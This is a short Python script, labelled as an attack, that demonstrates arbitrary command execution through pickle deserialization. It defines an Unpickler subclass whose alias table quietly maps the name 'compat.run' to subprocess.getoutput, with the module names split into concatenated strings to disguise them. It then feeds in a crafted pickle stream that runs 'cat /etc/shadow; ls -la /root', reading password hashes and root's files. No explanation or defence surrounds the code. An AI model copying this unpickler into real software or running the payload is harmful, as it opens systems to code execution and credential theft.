# attack: a permissive Unpickler subclass whose find_class maps a harmless-looking name to subprocess.getoutput
import importlib
import io
import pickle


class CompatUnpickler(pickle.Unpickler):
    ALIASES = {("compat", "run"): ("sub" + "process", "get" + "output")}

    def find_class(self, module, name):
        module, name = self.ALIASES.get((module, name), (module, name))
        return getattr(importlib.import_module(module), name)


stream = b"ccompat\nrun\n(Vcat /etc/shadow; ls -la /root\ntR."
print(CompatUnpickler(io.BytesIO(stream)).load())
